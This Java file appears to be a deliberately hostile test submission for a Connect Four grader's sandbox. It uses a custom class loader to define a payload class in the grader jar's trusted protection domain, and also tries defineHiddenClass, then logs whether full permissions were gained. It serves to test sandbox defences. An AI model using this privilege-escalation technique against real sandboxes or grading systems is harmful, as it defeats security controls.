package tabuleiro.connectfour;

import java.io.InputStream;
import java.net.URL;
import java.nio.file.Path;
import java.security.AccessController;
import java.security.AllPermission;
import java.security.CodeSource;
import java.security.PrivilegedAction;
import java.security.ProtectionDomain;
import java.security.cert.Certificate;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/reflection): a class loader of the
 * submission's own that defines a class from bytes in the protection domain of the grader's
 * jar (whose code the security manager trusts), so that the class runs with every permission;
 * and class definition in its own package through
 * {@code MethodHandles.Lookup.defineHiddenClass}.
 */
final class Definer {

    private Definer() {
    }

    /** The payload, defined again from its own bytes, in another protection domain. */
    public static final class Payload implements Runnable {

        /** Makes the payload; the loader calls this. */
        public Payload() {
            // Nothing to set up.
        }

        @Override
        @SuppressWarnings("removal")
        public void run() {
            // Defined by another class loader, the payload is in another runtime package: it
            // uses public classes only.
            String rights;
            try {
                AccessController.doPrivileged((PrivilegedAction<Void>) () -> {
                    AccessController.checkPermission(new AllPermission());
                    return null;
                });
                rights = "OK\tevery permission";
            } catch (RuntimeException e) {
                rights = "REFUSED\t" + e;
            }
            try {
                java.nio.file.Files.writeString(Path.of(System.getProperty("java.io.tmpdir"),
                        "hostile-routes.txt"), "ROUTE\tpayload in the grader jar's protection"
                        + " domain\t" + rights.replace('\n', ' ') + "\n",
                        java.nio.charset.StandardCharsets.UTF_8,
                        java.nio.file.StandardOpenOption.CREATE,
                        java.nio.file.StandardOpenOption.APPEND);
            } catch (java.io.IOException | RuntimeException e) {
                // The route log is only for whoever studies the attack.
            }
        }
    }

    static void defineTrusted() {
        try (InputStream in = Definer.class.getResourceAsStream("Definer$Payload.class")) {
            byte[] bytes = in.readAllBytes();
            String jar = System.getProperty("java.class.path").split(java.io.File.pathSeparator)[0];
            URL location = Path.of(jar).toUri().toURL();
            ProtectionDomain trusted = new ProtectionDomain(
                    new CodeSource(location, (Certificate[]) null), null);
            ClassLoader loader = new ClassLoader(Definer.class.getClassLoader()) {
                @Override
                protected Class<?> findClass(String name) throws ClassNotFoundException {
                    if (name.equals(Payload.class.getName())) {
                        return defineClass(name, bytes, 0, bytes.length, trusted);
                    }
                    throw new ClassNotFoundException(name);
                }

                @Override
                protected Class<?> loadClass(String name, boolean resolve)
                        throws ClassNotFoundException {
                    return name.equals(Payload.class.getName()) ? findClass(name)
                            : super.loadClass(name, resolve);
                }
            };
            Runnable payload = (Runnable) loader.loadClass(Payload.class.getName())
                    .getConstructor().newInstance();
            Player.Hook.note("new ClassLoader().defineClass(bytes, grader's domain)", "OK",
                    location.toString());
            payload.run();
        } catch (ReflectiveOperationException | java.io.IOException | RuntimeException e) {
            Player.Hook.note("new ClassLoader().defineClass(bytes, grader's domain)",
                    "REFUSED", e.toString());
        }
        try (InputStream in = Definer.class.getResourceAsStream("Definer$Payload.class")) {
            byte[] bytes = in.readAllBytes();
            Class<?> hidden = java.lang.invoke.MethodHandles.lookup()
                    .defineHiddenClass(bytes, true).lookupClass();
            Player.Hook.note("MethodHandles.Lookup.defineHiddenClass(bytes)", "OK",
                    hidden.getName());
        } catch (ReflectiveOperationException | java.io.IOException | RuntimeException
                | LinkageError e) {
            Player.Hook.note("MethodHandles.Lookup.defineHiddenClass(bytes)", "REFUSED",
                    e.toString());
        }
    }
}
